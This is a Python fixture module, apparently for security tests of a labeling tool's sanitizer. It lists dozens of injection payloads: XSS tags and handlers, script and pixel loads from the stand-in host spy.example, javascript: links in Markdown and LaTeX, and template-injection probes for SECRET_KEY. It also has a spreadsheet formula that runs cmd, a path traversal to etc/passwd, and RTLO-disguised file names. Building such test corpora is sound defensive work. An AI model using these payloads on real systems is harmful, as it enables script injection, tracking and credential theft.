"""Texts that tried to run, to call home or to deceive elsewhere: for every place where strangers or models write.

Each would set `window.hurt`, open a dialog or ask another host if anything of it ran. Sources: what was reported of
other labeling tools (CVE-2023-47115, 2024-26152, 2025-47783, 2026-22033), OWASP's filter evasion list, and the
advisories of parsers of Markdown and MathML.
"""

HURT = "window.hurt=1"
SPY = "https://spy.example"

TAGS = [
    f"<script>{HURT}</script>",
    f"<ScRiPt src={SPY}/x.js></ScRiPt>",
    f"<img src=x onerror='{HURT}'>",
    f"<img src={SPY}/pixel.png>",
    f"<svg/onload={HURT}>",
    f"<svg><script>{HURT}</script></svg>",
    f"<svg><animate onbegin={HURT} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={HURT}></svg>#x'></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HURT}&gt;'>",
    f"<math href='javascript:{HURT}'>CLICK</math>",
    f"<annotation-xml encoding='text/html'><script>{HURT}</script></annotation-xml>",
    f"<iframe srcdoc='<script>parent.{HURT}</script>'></iframe>",
    f"<iframe src={SPY}></iframe>",
    f"<object data='data:text/html,<script>{HURT}</script>'></object>",
    f"<embed src={SPY}/x.swf>",
    f"<a href='javascript:{HURT}' autofocus onfocus='{HURT}'>x</a>",
    f"<details open ontoggle={HURT}><summary>x</summary></details>",
    f"<body onload={HURT}>",
    f"<input autofocus onfocus={HURT}>",
    f"<video><source onerror={HURT}></video>",
    f"<marquee onstart={HURT}>x</marquee>",
    f"<style>@import '{SPY}/x.css'; * {{ display: none }}</style>",
    f"<link rel=stylesheet href={SPY}/x.css>",
    f"<base href={SPY}/>",
    f"<meta http-equiv=refresh content='0;url={SPY}'>",
    f"<p style='background:url({SPY}/x.png);position:fixed;inset:0'>x</p>",
    "<form action=/logout/ method=post><button>Submit</button></form>",
    f"<template><img src=x onerror={HURT}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HURT}>'>",
    f"<b onmouseover={HURT}>x</b>",
]
ESCAPES = [
    f'"><script>{HURT}</script><p class="',
    f"'><script>{HURT}</script>",
    f"</textarea></title></style></option></select></script><script>{HURT}</script>",
    f"--><script>{HURT}</script><!--",
    f"]]><script>{HURT}</script>",
    f"&lt;script&gt;{HURT}&lt;/script&gt;",
    f"\\u003cscript\\u003e{HURT}\\u003c/script\\u003e",
    f"%3Cscript%3E{HURT}%3C/script%3E",
    f"';{HURT};//",
    f"`${{{HURT}}}`",
    "\x00<script>\x00window.hurt=1</script>",
]
MARKDOWN = [
    f"[press](javascript:{HURT})",
    f"[press](JaVaScRiPt:{HURT})",
    f"[press](java\tscript:{HURT})",
    f"[press](&#106;avascript:{HURT})",
    f"[press](vbscript:{HURT})",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaHVydD0xPC9zY3JpcHQ+)",
    "[press](/logout/)",
    "[press](//spy.example)",
    "[press](http://spy.example)",
    f"![pixel]({SPY}/pixel.png)",
    f"![pixel](javascript:{HURT})",
    f'![x"onerror="{HURT}]({SPY}/x.png)',
    f"[![pixel]({SPY}/pixel.png)]({SPY})",
    f'[x]({SPY} "onmouseover={HURT} ")',
    f"[ref]\n\n[ref]: javascript:{HURT}",
    f"<javascript:{HURT}>",
    f"```html onload={HURT}\n<script>{HURT}</script>\n```",
    f"```'><script>{HURT}</script>\nx\n```",
    f"| <img src=x onerror={HURT}> | `<script>{HURT}</script>` |\n| - | - |\n| x | y |",
    "# Rank the answers\n\n## Sign in again",
]
FORMULAS = [
    rf"$\href{{javascript:{HURT}}}{{x}}$",
    rf"$\text{{<script>{HURT}</script>}}$",
    rf"$\text{{&lt;script&gt;{HURT}&lt;/script&gt;}}$",
    rf"$\text{{<img src=x onerror={HURT}>}}$",
    r"$\style{position:fixed;inset:0;background:url(https://spy.example)}{x}$",
    r"$\class{toast}{x}$",
    r"$\def\a{\b\b\b\b}\def\b{\c\c\c\c}\def\c{xxxx}\a$",
]
TEMPLATES = [
    "{{ constructor.constructor('window.hurt=1')() }} {% debug %} {{ settings.SECRET_KEY }} {% load static %}",
    "#{7*7} ${7*7} <%= 7*7 %> {{7*7}} {%% include 'x' %%}",
    "{0.__class__} %(password)s %s %n",
]
ATTRIBUTES = [
    f"<div hx-get='/' hx-trigger='load' hx-on:htmx:load='{HURT}'>x</div>",
    f"<div data-hx-get='{SPY}' data-hx-trigger='load'>x</div>",
    f"<button accesskey=a onclick={HURT} data-dialog=keys>x</button>",
    f"<div id=toasts><div class=toast onclick={HURT}>x</div></div>",
    f"<span data-toast-close data-copy=x data-copied='<img src=x onerror={HURT}>'>x</span>",
]
DIRECTIONS = [
    "invoice\u202efdp.exe",
    "\u2066\u202e<script>\u2069",
    "a\u2028b\u2029c",
    "\ufeff\u200b\u200d\u00ad",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
]
FORMULA_CELLS = ['=HYPERLINK("https://spy.example")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1"]
FILE_NAMES = [
    f"<img src=x onerror={HURT}>.jsonl",
    f'x"onerror="{HURT}.jsonl',
    "..%2f..%2fetc%2fpasswd",
    "a\u202elnosj.html",
]

PAYLOADS = [*TAGS, *ESCAPES, *MARKDOWN, *FORMULAS, *TEMPLATES, *ATTRIBUTES, *DIRECTIONS, *FORMULA_CELLS, *FILE_NAMES]
ALL = "\n\n".join(text.replace("\x00", "") for text in PAYLOADS)
"""Of them together, for long texts; PostgreSQL stores no zero byte."""
NAMES = [f"<img src=x onerror={HURT}>", f'"><script>{HURT}</script>', "{{ 7*7 }}{% debug %}", "ann\u202eeinna"]
"""Short ones, for names and tags."""
